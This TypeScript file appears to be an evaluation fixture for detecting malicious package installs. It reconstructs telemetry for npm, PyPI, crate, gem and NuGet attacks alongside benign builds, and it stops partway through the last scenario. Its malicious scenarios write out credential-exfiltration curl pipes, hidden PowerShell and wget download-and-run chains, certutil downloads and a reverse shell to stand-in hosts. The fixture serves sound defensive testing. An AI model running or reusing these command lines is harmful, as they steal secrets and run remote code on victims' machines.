/**
 * The held-out part of the corpus (eval-corpus/holdout/): written after the rules were frozen
 * (commit e86c4be) and scored once, never used to change a rule. Incidents and benign installs
 * that the design part does not contain, in formats chosen to differ from the design sample of
 * the same kind, reconstructed from documented behaviour:
 *
 * - dependency-confusion proofs of concept send `hostname`/`whoami`/`pwd` from a preinstall
 *   (`curl "https://…/?h=$(hostname)&u=$(whoami)"`, Birsan 2021 and the copycats after it);
 * - PyPI droppers start PowerShell from setup.py (`subprocess.Popen(['powershell', '-w',
 *   'hidden', …])`, the 2022–2023 W4SP-style packages);
 * - npm reconnaissance packages run `systeminfo`/`ipconfig /all` and upload the output;
 * - token stealers read ~/.npmrc and cloud credentials and post them with curl;
 * - a crate's build.rs runs `sh -c` with id and a download;
 * - a gem post-install hook (rubygems_plugin.rb) calls `system("whoami")`;
 * - a JavaScript reverse shell from a postinstall to a non-web port;
 * - NuGet .targets under `dotnet build` running certutil;
 * benign: pip wheels and an sdist build, a nokogiri gem build, puppeteer's browser download,
 * electron's binary download, `dotnet build` with Grpc.Tools and TypeScript .targets, prisma's
 * engine download and platform probes (`openssl version`, `cat /etc/os-release`), pip building
 * cryptography with Rust on macOS.
 */
import { FORMATS, MACOS_SENSOR, type Format } from './formats.js';
import type { Reconstructed } from './reconstructed.js';
import { scenario } from './scenarios.js';

const format = (name: string): Format => (name === MACOS_SENSOR.name ? MACOS_SENSOR : FORMATS.find((x) => x.name === name)!);
const NODE = 'C:\\Program Files\\nodejs\\node.exe';
const NPM_CLI = 'C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const PY = 'C:\\Users\\dana\\AppData\\Local\\Programs\\Python\\Python311';
const DOTNET = 'C:\\Program Files\\dotnet\\dotnet.exe';
const SDK_MSBUILD = 'C:\\Program Files\\dotnet\\sdk\\8.0.404\\MSBuild.dll';

const depConfusion = scenario('linux', 'dependency-confusion-recon', 'preinstall of a name-squatted internal package sends hostname and whoami', 'build-runner-4', 'ci', { image: '/bin/bash', cmd: ['bash', '-c', 'npm ci'], cwd: '/home/ci/work/payments-ui' }, (b) =>
  b
    .proc('npm', 'root', '/usr/bin/node', ['node', '/usr/bin/npm', 'ci'], '/home/ci/work/payments-ui')
    .net('npm', '198.51.100.34', 443, undefined, 300)
    .proc('sh', 'npm', '/usr/bin/dash', ['sh', '-c', 'curl -s "https://oob.attacker-collab.invalid/?h=$(hostname)&u=$(whoami)&d=$(pwd)"'], '/home/ci/work/payments-ui/node_modules/@payments/ui-config', 3000)
    .proc('hostname', 'sh', '/usr/bin/hostname', ['hostname'], '/home/ci/work/payments-ui/node_modules/@payments/ui-config', 2)
    .proc('whoami', 'sh', '/usr/bin/whoami', ['whoami'], '/home/ci/work/payments-ui/node_modules/@payments/ui-config', 2)
    .proc('curl', 'sh', '/usr/bin/curl', ['curl', '-s', 'https://oob.attacker-collab.invalid/?h=build-runner-4&u=ci&d=/home/ci/work/payments-ui/node_modules/@payments/ui-config'], '/home/ci/work/payments-ui/node_modules/@payments/ui-config', 5)
    .net('curl', '203.0.113.201', 443, undefined, 60),
);

const pypiPowershell = scenario('windows', 'pypi-setup-powershell-dropper', 'pip install of a typosquat whose setup.py starts hidden PowerShell', 'DEV-WS-311.corp.example.com', 'CORP\\dana', { image: 'C:\\Windows\\explorer.exe', cmd: 'C:\\Windows\\Explorer.EXE', cwd: 'C:\\Windows\\system32\\' }, (b) =>
  b
    .proc('term', 'root', PS, `"${PS}"`, 'C:\\Users\\dana\\')
    .proc('launcher', 'term', `${PY}\\Scripts\\pip.exe`, '"C:\\Users\\dana\\AppData\\Local\\Programs\\Python\\Python311\\Scripts\\pip.exe" install reqeusts-toolbelt', 'C:\\Users\\dana\\', 2000)
    .proc('pip', 'launcher', `${PY}\\python.exe`, `"${PY}\\python.exe" "${PY}\\Scripts\\pip.exe" install reqeusts-toolbelt`, 'C:\\Users\\dana\\', 20)
    .dns('pip', 'pypi.org', ['198.51.100.223'], 300)
    .net('pip', '198.51.100.223', 443, undefined, 20)
    .dns('pip', 'files.pythonhosted.org', ['198.51.100.224'], 200)
    .net('pip', '198.51.100.224', 443, undefined, 20)
    .proc('hook', 'pip', `${PY}\\python.exe`, `"${PY}\\python.exe" "${PY}\\Lib\\site-packages\\pip\\_vendor\\pyproject_hooks\\_in_process\\_in_process.py" get_requires_for_build_wheel C:\\Users\\dana\\AppData\\Local\\Temp\\tmpq0w9x2m1`, 'C:\\Users\\dana\\AppData\\Local\\Temp\\pip-install-7h2k1l0p\\reqeusts-toolbelt_5d1e3f7a9b0c4d2e8f6a1b3c5d7e9f0a\\', 2500)
    .proc('ps', 'hook', PS, 'powershell -WindowStyle Hidden -Command "Invoke-WebRequest -Uri http://198.51.100.240/x/update.exe -OutFile $env:APPDATA\\update.exe; Start-Process $env:APPDATA\\update.exe"', 'C:\\Users\\dana\\AppData\\Local\\Temp\\pip-install-7h2k1l0p\\reqeusts-toolbelt_5d1e3f7a9b0c4d2e8f6a1b3c5d7e9f0a\\', 200)
    .net('ps', '198.51.100.240', 80, undefined, 400)
    .file('ps', 'C:\\Users\\dana\\AppData\\Roaming\\update.exe', 300)
    .proc('drop', 'ps', 'C:\\Users\\dana\\AppData\\Roaming\\update.exe', '"C:\\Users\\dana\\AppData\\Roaming\\update.exe"', 'C:\\Users\\dana\\', 100),
);

const npmSysinfo = scenario('windows', 'npm-systeminfo-upload', 'npm preinstall runs systeminfo and ipconfig /all and uploads them with curl.exe', 'LAPTOP-7QK2.corp.example.com', 'CORP\\ravi', { image: 'C:\\Program Files\\Microsoft VS Code\\Code.exe', cmd: '"C:\\Program Files\\Microsoft VS Code\\Code.exe"', cwd: 'C:\\code\\shop\\' }, (b) =>
  b
    .proc('npmcmd', 'root', CMD, 'C:\\WINDOWS\\system32\\cmd.exe /d /c "C:\\Program Files\\nodejs\\npm.cmd" install colorama-js', 'C:\\code\\shop\\')
    .proc('npm', 'npmcmd', NODE, `"${NODE}" "${NPM_CLI}" install colorama-js`, 'C:\\code\\shop\\', 40)
    .net('npm', '198.51.100.34', 443, 'registry.npmjs.org', 500)
    .proc('script', 'npm', CMD, 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "node pre.js"', 'C:\\code\\shop\\node_modules\\colorama-js\\', 2000)
    .proc('node', 'script', NODE, 'node  pre.js', 'C:\\code\\shop\\node_modules\\colorama-js\\', 30)
    .proc('cmd2', 'node', CMD, 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "systeminfo > %TEMP%\\si.txt & ipconfig /all >> %TEMP%\\si.txt & curl.exe -s -F f=@%TEMP%\\si.txt http://198.51.100.90:8080/u"', 'C:\\code\\shop\\node_modules\\colorama-js\\', 100)
    .proc('si', 'cmd2', 'C:\\Windows\\System32\\systeminfo.exe', 'systeminfo', 'C:\\code\\shop\\node_modules\\colorama-js\\', 20)
    .proc('ipc', 'cmd2', 'C:\\Windows\\System32\\ipconfig.exe', 'ipconfig  /all', 'C:\\code\\shop\\node_modules\\colorama-js\\', 2500)
    .proc('curl', 'cmd2', 'C:\\Windows\\System32\\curl.exe', 'curl.exe  -s -F f=@C:\\Users\\ravi\\AppData\\Local\\Temp\\si.txt http://198.51.100.90:8080/u', 'C:\\code\\shop\\node_modules\\colorama-js\\', 300)
    .net('curl', '198.51.100.90', 8080, undefined, 30),
);

const tokenStealer = scenario('linux', 'yarn-token-stealer', 'yarn postinstall pipes ~/.npmrc and AWS credentials to curl', 'dev-vm-22', 'sam', { image: '/usr/bin/zsh', cmd: ['-zsh'], cwd: '/home/sam/src/site' }, (b) =>
  b
    .proc('yarn', 'root', '/usr/bin/node', ['node', '/usr/lib/node_modules/yarn/bin/yarn.js', 'add', 'eslint-config-airbnb-typescrip'], '/home/sam/src/site')
    .net('yarn', '198.51.100.36', 443, undefined, 400)
    .proc('sh', 'yarn', '/bin/sh', ['/bin/sh', '-c', 'node lib/setup.js'], '/home/sam/src/site/node_modules/eslint-config-airbnb-typescrip', 2500)
    .proc('node', 'sh', '/usr/bin/node', ['node', 'lib/setup.js'], '/home/sam/src/site/node_modules/eslint-config-airbnb-typescrip', 3)
    .proc('sh2', 'node', '/bin/sh', ['/bin/sh', '-c', 'cat /home/sam/.npmrc /home/sam/.aws/credentials 2>/dev/null | base64 -w0 | curl -s -X POST -d @- https://paste-drop.invalid/api/v1/in'], '/home/sam/src/site/node_modules/eslint-config-airbnb-typescrip', 50)
    .proc('cat', 'sh2', '/usr/bin/cat', ['cat', '/home/sam/.npmrc', '/home/sam/.aws/credentials'], '/home/sam/src/site/node_modules/eslint-config-airbnb-typescrip', 2)
    .proc('b64', 'sh2', '/usr/bin/base64', ['base64', '-w0'], '/home/sam/src/site/node_modules/eslint-config-airbnb-typescrip', 1)
    .proc('curl', 'sh2', '/usr/bin/curl', ['curl', '-s', '-X', 'POST', '-d', '@-', 'https://paste-drop.invalid/api/v1/in'], '/home/sam/src/site/node_modules/eslint-config-airbnb-typescrip', 1)
    .net('curl', '203.0.113.77', 443, undefined, 80),
);

const crateBuildRs = scenario('linux', 'crate-build-rs-payload', "a crate's build.rs runs id and fetches a second stage with wget", 'ci-agent-09', 'builder', { image: '/bin/sh', cmd: ['sh', '-c', 'cargo test --workspace'], cwd: '/srv/ci/ledger' }, (b) =>
  b
    .proc('cargo', 'root', '/home/builder/.cargo/bin/cargo', ['cargo', 'test', '--workspace'], '/srv/ci/ledger')
    .net('cargo', '198.51.100.71', 443, undefined, 300)
    .proc('bs', 'cargo', '/srv/ci/ledger/target/debug/build/serde_yamI-1f3a5c7e9b2d4f6a/build-script-build', ['/srv/ci/ledger/target/debug/build/serde_yamI-1f3a5c7e9b2d4f6a/build-script-build'], '/home/builder/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde_yamI-0.9.34', 6000)
    .proc('sh', 'bs', '/usr/bin/dash', ['sh', '-c', 'id; wget -q -O /tmp/.ci-cache http://198.51.100.99/l && chmod +x /tmp/.ci-cache && /tmp/.ci-cache &'], '/home/builder/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde_yamI-0.9.34', 40)
    .proc('id', 'sh', '/usr/bin/id', ['id'], '/home/builder/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde_yamI-0.9.34', 2)
    .proc('wget', 'sh', '/usr/bin/wget', ['wget', '-q', '-O', '/tmp/.ci-cache', 'http://198.51.100.99/l'], '/home/builder/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde_yamI-0.9.34', 3)
    .proc('chmod', 'sh', '/usr/bin/chmod', ['chmod', '+x', '/tmp/.ci-cache'], '/home/builder/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde_yamI-0.9.34', 200)
    .proc('stage2', 'sh', '/tmp/.ci-cache', ['/tmp/.ci-cache'], '/home/builder/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde_yamI-0.9.34', 2),
);

const gemPlugin = scenario('linux', 'gem-plugin-post-install', 'gem install of a gem whose rubygems_plugin.rb post-install hook runs whoami and uname -a', 'web-build-2', 'deploy', { image: '/bin/bash', cmd: ['bash', '-lc', 'bundle install'], cwd: '/srv/app' }, (b) =>
  b
    .proc('bundle', 'root', '/usr/bin/ruby3.2', ['/usr/bin/ruby3.2', '/usr/local/bin/bundle', 'install'], '/srv/app')
    .net('bundle', '198.51.100.151', 443, undefined, 600)
    .proc('sh', 'bundle', '/usr/bin/dash', ['sh', '-c', 'whoami'], '/srv/app', 4000)
    .proc('whoami', 'sh', '/usr/bin/whoami', ['whoami'], '/srv/app', 2)
    .proc('sh2', 'bundle', '/usr/bin/dash', ['sh', '-c', 'uname -a'], '/srv/app', 20)
    .proc('uname', 'sh2', '/usr/bin/uname', ['uname', '-a'], '/srv/app', 2)
    .net('bundle', '203.0.113.61', 443, undefined, 300),
);

const jsReverseShell = scenario('linux', 'npm-js-reverse-shell', 'postinstall node script opens a reverse shell to a non-web port', 'dev-box-5', 'li', { image: '/bin/bash', cmd: ['-bash'], cwd: '/home/li/proj' }, (b) =>
  b
    .proc('npm', 'root', '/usr/bin/node', ['node', '/usr/bin/npm', 'install', 'node-hide-console-windows'], '/home/li/proj')
    .net('npm', '198.51.100.34', 443, undefined, 400)
    .proc('sh', 'npm', '/usr/bin/dash', ['sh', '-c', 'node lib/index.js'], '/home/li/proj/node_modules/node-hide-console-windows', 2500)
    .proc('node', 'sh', '/usr/bin/node', ['node', 'lib/index.js'], '/home/li/proj/node_modules/node-hide-console-windows', 3)
    .net('node', '203.0.113.33', 4444, undefined, 100)
    .proc('shell', 'node', '/usr/bin/dash', ['/bin/sh'], '/home/li/proj/node_modules/node-hide-console-windows', 20),
);

const nugetCertutil = scenario('windows', 'nuget-targets-certutil', 'dotnet build imports a package .targets whose Exec runs certutil -urlcache', 'BUILD-AGENT-02', 'NT AUTHORITY\\NETWORK SERVICE', { image: 'C:\\agent\\bin\\Agent.Worker.exe', cmd: '"C:\\agent\\bin\\Agent.Worker.exe" spawnclient 3160 3164', cwd: 'C:\\agent\\_work\\1\\s\\' }, (b) =>
  b
    .proc('dotnet', 'root', DOTNET, `"${DOTNET}" build Api.sln -c Release`, 'C:\\agent\\_work\\1\\s\\')
    .proc('msbuild', 'dotnet', DOTNET, `"${DOTNET}" exec "${SDK_MSBUILD}" -maxcpucount -verbosity:m -restore -consoleloggerparameters:Summary -property:Configuration=Release Api.sln`, 'C:\\agent\\_work\\1\\s\\', 100)
    .dns('msbuild', 'api.nuget.org', ['198.51.100.180'], 800)
    .net('msbuild', '198.51.100.180', 443, undefined, 20)
    .proc('exec', 'msbuild', CMD, 'C:\\Windows\\system32\\cmd.exe /Q /D /C C:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Temp\\MSBuildTemp\\tmp0a7d3f9e1c2b4e6a.exec.cmd', 'C:\\agent\\_work\\1\\s\\src\\Api\\', 6000)
    .proc('certutil', 'exec', 'C:\\Windows\\System32\\certutil.exe', 'certutil  -urlcache -split -f http://198.51.100.181/a/wd.dll C:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Temp\\wd.dll', 'C:\\agent\\_work\\1\\s\\src\\Api\\', 30)
    .net('certutil', '198.51.100.181', 80, undefined, 100),
);

const pythonSysinfoNoCmdline = scenario('windows', 'pip-hook-systeminfo', 'a setup.py running systeminfo through os.system, in 4688 without command lines', 'DEV-WS-311.corp.example.com', 'CORP\\dana', { image: PS, cmd: `"${PS}"`, cwd: 'C:\\Users\\dana\\' }, (b) =>
  b
    .proc('launcher', 'root', `${PY}\\Scripts\\pip.exe`, 'pip  install tqdm-extras', 'C:\\Users\\dana\\')
    .proc('pip', 'launcher', `${PY}\\python.exe`, `"${PY}\\python.exe" "${PY}\\Scripts\\pip.exe" install tqdm-extras`, 'C:\\Users\\dana\\', 20)
    .proc('hook', 'pip', `${PY}\\python.exe`, `"${PY}\\python.exe" "${PY}\\Lib\\site-packages\\pip\\_vendor\\pyproject_hooks\\_in_process\\_in_process.py" get_requires_for_build_wheel C:\\Users\\dana\\AppData\\Local\\Temp\\tmp4r8s2d1f`, 'C:\\Users\\dana\\', 3000)
    .proc('cmd', 'hook', CMD, 'C:\\WINDOWS\\system32\\cmd.exe /c systeminfo', 'C:\\Users\\dana\\', 100)
    .proc('si', 'cmd', 'C:\\Windows\\System32\\systeminfo.exe', 'systeminfo', 'C:\\Users\\dana\\', 20),
);

// ---- benign ----

const pipWheelsSdist = scenario('linux', 'pip-wheels-and-sdist', 'pip install numpy (wheel) and pycurl (sdist built with curl-config and gcc)', 'ml-box-1', 'ana', { image: '/bin/bash', cmd: ['-bash'], cwd: '/home/ana/exp' }, (b) =>
  b
    .proc('pip', 'root', '/home/ana/exp/.venv/bin/python3.11', ['/home/ana/exp/.venv/bin/python', '/home/ana/exp/.venv/bin/pip', 'install', 'numpy', 'pycurl'], '/home/ana/exp')
    .net('pip', '198.51.100.223', 443, undefined, 300)
    .net('pip', '198.51.100.224', 443, undefined, 200)
    .net('pip', '198.51.100.224', 443, undefined, 900)
    .proc('runner', 'pip', '/home/ana/exp/.venv/bin/python3.11', ['/home/ana/exp/.venv/bin/python', '/home/ana/exp/.venv/lib/python3.11/site-packages/pip/__pip-runner__.py', 'install', '--ignore-installed', '--no-user', '--prefix', '/tmp/pip-build-env-wq1e2r3t/overlay', '--no-warn-script-location', '--disable-pip-version-check', '-v', '--no-binary', ':none:', '--only-binary', ':none:', '-i', 'https://pypi.org/simple', '--', 'setuptools>=40.8.0'], '/tmp/pip-install-a1s2d3f4/pycurl_0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f', 2000)
    .net('runner', '198.51.100.224', 443, undefined, 300)
    .proc('hook', 'pip', '/home/ana/exp/.venv/bin/python3.11', ['/home/ana/exp/.venv/bin/python', '/home/ana/exp/.venv/lib/python3.11/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py', 'build_wheel', '/tmp/tmpz9x8c7v6'], '/tmp/pip-install-a1s2d3f4/pycurl_0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f', 3000)
    .proc('curlconfig', 'hook', '/usr/bin/dash', ['/bin/sh', '/usr/bin/curl-config', '--version'], '/tmp/pip-install-a1s2d3f4/pycurl_0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f', 100)
    .proc('curlconfig2', 'hook', '/usr/bin/dash', ['/bin/sh', '/usr/bin/curl-config', '--static-libs'], '/tmp/pip-install-a1s2d3f4/pycurl_0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f', 30)
    .proc('gcc', 'hook', '/usr/bin/x86_64-linux-gnu-gcc-12', ['x86_64-linux-gnu-gcc', '-Wsign-compare', '-DNDEBUG', '-fPIC', '-DPYCURL_VERSION="7.45.3"', '-I/usr/include/python3.11', '-c', 'src/easy.c', '-o', 'build/temp.linux-x86_64-cpython-311/src/easy.o'], '/tmp/pip-install-a1s2d3f4/pycurl_0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f', 800),
);

const nokogiriGem = scenario('linux', 'gem-nokogiri-native', 'gem install nokogiri from source: extconf.rb, pkg-config, make, gcc', 'web-build-2', 'deploy', { image: '/bin/bash', cmd: ['bash', '-lc', 'gem install nokogiri --platform=ruby'], cwd: '/srv/app' }, (b) =>
  b
    .proc('gem', 'root', '/usr/bin/ruby3.2', ['/usr/bin/ruby3.2', '/usr/bin/gem', 'install', 'nokogiri', '--platform=ruby'], '/srv/app')
    .net('gem', '198.51.100.151', 443, undefined, 500)
    .net('gem', '198.51.100.152', 443, undefined, 300)
    .proc('extconf', 'gem', '/usr/bin/ruby3.2', ['/usr/bin/ruby3.2', '-I', '/usr/lib/ruby/vendor_ruby', '-r', './siteconf20261128-9122-4k1l2m.rb', 'extconf.rb', '--use-system-libraries'], '/var/lib/gems/3.2.0/gems/nokogiri-1.16.7/ext/nokogiri', 3000)
    .proc('pkg', 'extconf', '/usr/bin/dash', ['sh', '-c', 'pkg-config --exists libxml-2.0'], '/var/lib/gems/3.2.0/gems/nokogiri-1.16.7/ext/nokogiri', 200)
    .proc('pkgc', 'pkg', '/usr/bin/pkg-config', ['pkg-config', '--exists', 'libxml-2.0'], '/var/lib/gems/3.2.0/gems/nokogiri-1.16.7/ext/nokogiri', 2)
    .proc('conftest', 'extconf', '/usr/bin/dash', ['sh', '-c', 'gcc -o conftest -I/usr/include/ruby-3.2.0 conftest.c -L. -lruby-3.2 -lxml2'], '/var/lib/gems/3.2.0/gems/nokogiri-1.16.7/ext/nokogiri', 300)
    .proc('ccc', 'conftest', '/usr/bin/x86_64-linux-gnu-gcc-12', ['gcc', '-o', 'conftest', '-I/usr/include/ruby-3.2.0', 'conftest.c', '-L.', '-lruby-3.2', '-lxml2'], '/var/lib/gems/3.2.0/gems/nokogiri-1.16.7/ext/nokogiri', 2)
    .proc('make', 'gem', '/usr/bin/make', ['make', 'DESTDIR=', 'sitearchdir=./.gem.20261128-9122-8x9c0v', 'sitelibdir=./.gem.20261128-9122-8x9c0v'], '/var/lib/gems/3.2.0/gems/nokogiri-1.16.7/ext/nokogiri', 4000)
    .proc('cc', 'make', '/usr/bin/x86_64-linux-gnu-gcc-12', ['gcc', '-I.', '-I/usr/include/libxml2', '-fPIC', '-O2', '-c', 'xml_document.c'], '/var/lib/gems/3.2.0/gems/nokogiri-1.16.7/ext/nokogiri', 30),
);

const puppeteerSysmonLinux = scenario('linux', 'puppeteer-browser-download', "npm install puppeteer: the postinstall downloads Chrome for Testing (Sysmon for Linux has no DNS events)", 'dev-vm-22', 'sam', { image: '/usr/bin/zsh', cmd: ['-zsh'], cwd: '/home/sam/src/e2e' }, (b) =>
  b
    .proc('npm', 'root', '/usr/bin/node', ['node', '/usr/bin/npm', 'install', 'puppeteer@23.9.0'], '/home/sam/src/e2e')
    .net('npm', '198.51.100.34', 443, undefined, 400)
    .net('npm', '198.51.100.35', 443, undefined, 50)
    .proc('sh', 'npm', '/bin/sh', ['sh', '-c', 'node install.mjs'], '/home/sam/src/e2e/node_modules/puppeteer', 6000)
    .proc('node', 'sh', '/usr/bin/node', ['node', 'install.mjs'], '/home/sam/src/e2e/node_modules/puppeteer', 3)
    .net('node', '198.51.100.207', 443, undefined, 300)
    .net('node', '198.51.100.208', 443, undefined, 2000)
    .file('node', '/home/sam/.cache/puppeteer/chrome/linux-131.0.6778.85/chrome-linux64/chrome', 9000),
);

const electronWindows = scenario('windows', 'electron-binary-download', 'npm install electron: postinstall node install.js downloads the binary from GitHub releases', 'LAPTOP-7QK2.corp.example.com', 'CORP\\ravi', { image: 'C:\\Program Files\\Microsoft VS Code\\Code.exe', cmd: '"C:\\Program Files\\Microsoft VS Code\\Code.exe"', cwd: 'C:\\code\\desk\\' }, (b) =>
  b
    .proc('npmcmd', 'root', CMD, 'C:\\WINDOWS\\system32\\cmd.exe /d /c "C:\\Program Files\\nodejs\\npm.cmd" install --save-dev electron@33.2.0', 'C:\\code\\desk\\')
    .proc('npm', 'npmcmd', NODE, `"${NODE}" "${NPM_CLI}" install --save-dev electron@33.2.0`, 'C:\\code\\desk\\', 40)
    .dns('npm', 'registry.npmjs.org', ['198.51.100.34'], 300)
    .net('npm', '198.51.100.34', 443, undefined, 20)
    .proc('script', 'npm', CMD, 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "node install.js"', 'C:\\code\\desk\\node_modules\\electron\\', 4000)
    .proc('node', 'script', NODE, 'node  install.js', 'C:\\code\\desk\\node_modules\\electron\\', 30)
    .dns('node', 'github.com', ['198.51.100.113'], 200)
    .net('node', '198.51.100.113', 443, undefined, 20)
    .dns('node', 'objects.githubusercontent.com', ['198.51.100.133'], 300)
    .net('node', '198.51.100.133', 443, undefined, 20)
    .file('node', 'C:\\Users\\ravi\\AppData\\Local\\electron\\Cache\\3e8a4c1f\\electron-v33.2.0-win32-x64.zip', 8000)
    .file('node', 'C:\\code\\desk\\node_modules\\electron\\dist\\electron.exe', 3000),
);

const dotnetTargets = scenario('windows', 'dotnet-build-benign-targets', 'dotnet build with Grpc.Tools (protoc) and Microsoft.TypeScript.MSBuild (node tsc.js) .targets', 'BUILD-AGENT-02', 'NT AUTHORITY\\NETWORK SERVICE', { image: 'C:\\agent\\bin\\Agent.Worker.exe', cmd: '"C:\\agent\\bin\\Agent.Worker.exe" spawnclient 3160 3164', cwd: 'C:\\agent\\_work\\2\\s\\' }, (b) =>
  b
    .proc('dotnet', 'root', DOTNET, `"${DOTNET}" build Portal.sln -c Release`, 'C:\\agent\\_work\\2\\s\\')
    .proc('msbuild', 'dotnet', DOTNET, `"${DOTNET}" exec "${SDK_MSBUILD}" -maxcpucount -verbosity:m -restore -consoleloggerparameters:Summary -property:Configuration=Release Portal.sln`, 'C:\\agent\\_work\\2\\s\\', 100)
    .dns('msbuild', 'api.nuget.org', ['198.51.100.180'], 800)
    .net('msbuild', '198.51.100.180', 443, undefined, 20)
    .proc('protoc', 'msbuild', 'C:\\Windows\\ServiceProfiles\\NetworkService\\.nuget\\packages\\grpc.tools\\2.67.0\\tools\\windows_x64\\protoc.exe', '"C:\\Windows\\ServiceProfiles\\NetworkService\\.nuget\\packages\\grpc.tools\\2.67.0\\tools\\windows_x64\\protoc.exe" --csharp_out=obj\\Release\\net8.0\\Protos --grpc_out=obj\\Release\\net8.0\\Protos --plugin=protoc-gen-grpc=C:\\Windows\\ServiceProfiles\\NetworkService\\.nuget\\packages\\grpc.tools\\2.67.0\\tools\\windows_x64\\grpc_csharp_plugin.exe -I Protos Protos\\portal.proto', 'C:\\agent\\_work\\2\\s\\src\\Portal.Api\\', 5000)
    .proc('tsc', 'msbuild', NODE, `"${NODE}" "C:\\Windows\\ServiceProfiles\\NetworkService\\.nuget\\packages\\microsoft.typescript.msbuild\\5.6.3\\tools\\tsc\\tsc.js" --project "C:\\agent\\_work\\2\\s\\src\\Portal.Web\\tsconfig.json" --listEmittedFiles --locale en-US`, 'C:\\agent\\_work\\2\\s\\src\\Portal.Web\\', 3000)
    .proc('exec', 'msbuild', CMD, 'C:\\Windows\\system32\\cmd.exe /Q /D /C C:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Temp\\MSBuildTemp\\tmp3b9e1d7c5a0f4e2b.exec.cmd', 'C:\\agent\\_work\\2\\s\\src\\Portal.Web\\', 2000)
    .proc('xcopy', 'exec', 'C:\\Windows\\System32\\xcopy.exe', 'xcopy  /y /i wwwroot\\dist ..\\..\\artifacts\\web', 'C:\\agent\\_work\\2\\s\\src\\Portal.Web\\', 30),
);

const prismaAuditd = scenario('linux', 'prisma-engines-and-probes', "npm install prisma: the engine download and prisma's platform probes (openssl version, os-release)", 'api-ci-1', 'runner', { image: '/bin/bash', cmd: ['bash', '-e', '/home/runner/work/_temp/3f1c.sh'], cwd: '/home/runner/work/api/api' }, (b) =>
  b
    .proc('npm', 'root', '/opt/hostedtoolcache/node/20.18.1/x64/bin/node', ['node', '/opt/hostedtoolcache/node/20.18.1/x64/bin/npm', 'ci'], '/home/runner/work/api/api')
    .net('npm', '198.51.100.34', 443, undefined, 400)
    .proc('sh', 'npm', '/usr/bin/dash', ['sh', '-c', 'node scripts/postinstall.js'], '/home/runner/work/api/api/node_modules/@prisma/engines', 5000)
    .proc('node', 'sh', '/opt/hostedtoolcache/node/20.18.1/x64/bin/node', ['node', 'scripts/postinstall.js'], '/home/runner/work/api/api/node_modules/@prisma/engines', 3)
    .proc('osr', 'node', '/usr/bin/dash', ['/bin/sh', '-c', 'cat /etc/os-release'], '/home/runner/work/api/api/node_modules/@prisma/engines', 100)
    .proc('cat', 'osr', '/usr/bin/cat', ['cat', '/etc/os-release'], '/home/runner/work/api/api/node_modules/@prisma/engines', 2)
    .proc('ossl', 'node', '/usr/bin/dash', ['/bin/sh', '-c', 'openssl version -v'], '/home/runner/work/api/api/node_modules/@prisma/engines', 20)
    .proc('openssl', 'ossl', '/usr/bin/openssl', ['openssl', 'version', '-v'], '/home/runner/work/api/api/node_modules/@prisma/engines', 2)
    .proc('lib', 'node', '/usr/bin/dash', ['/bin/sh', '-c', 'ls -l /lib/x86_64-linux-gnu | grep ssl'], '/home/runner/work/api/api/node_modules/@prisma/engines', 20)
    .proc('ls', 'lib', '/usr/bin/ls', ['ls', '-l', '/lib/x86_64-linux-gnu'], '/home/runner/work/api/api/node_modules/@prisma/engines', 2)
    .net('node', '198.51.100.190', 443, undefined, 300)
    .proc('engine', 'node', '/home/runner/work/api/api/node_modules/@prisma/engines/libquery_engine-debian-openssl-3.0.x.so.node', ['/home/runner/work/api/api/node_modules/@prisma/engines/schema-engine-debian-openssl-3.0.x', '--version'], '/home/runner/work/api/api/node_modules/@prisma/engines', 6000),
);

const cryptographyMacos = scenario('macos', 'pip-cryptography-rust', 'pip install cryptography from source on macOS: maturin, cargo, rustc, clang', 'mbp-ana', 'ana', { image: '/bin/zsh', cmd: ['-zsh'], cwd: '/Users/ana/exp' }, (b) =>
  b
    .proc('pip', 'root', '/opt/homebrew/Cellar/python@3.12/3.12.7/Frameworks/Python.framework/Versions/3.12/bin/python3.12', ['/Users/ana/exp/.venv/bin/python', '-m', 'pip', 'install', '--no-binary', 'cryptography', 'cryptography'], '/Users/ana/exp')
    .dns('pip', 'pypi.org', ['198.51.100.223'], 300)
    .net('pip', '198.51.100.223', 443, 'pypi.org', 20)
    .dns('pip', 'files.pythonhosted.org', ['198.51.100.224'], 200)
    .net('pip', '198.51.100.224', 443, 'files.pythonhosted.org', 20)
    .proc('hook', 'pip', '/opt/homebrew/Cellar/python@3.12/3.12.7/Frameworks/Python.framework/Versions/3.12/bin/python3.12', ['/Users/ana/exp/.venv/bin/python', '/Users/ana/exp/.venv/lib/python3.12/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py', 'build_wheel', '/var/folders/x1/abc/T/tmpp0o9i8u7'], '/private/var/folders/x1/abc/T/pip-install-q1w2e3r4/cryptography_1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d', 4000)
    .proc('maturin', 'hook', '/private/var/folders/x1/abc/T/pip-build-env-z1x2c3v4/overlay/bin/maturin', ['maturin', 'pep517', 'build-wheel', '-i', '/Users/ana/exp/.venv/bin/python', '--compatibility', 'off'], '/private/var/folders/x1/abc/T/pip-install-q1w2e3r4/cryptography_1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d', 300)
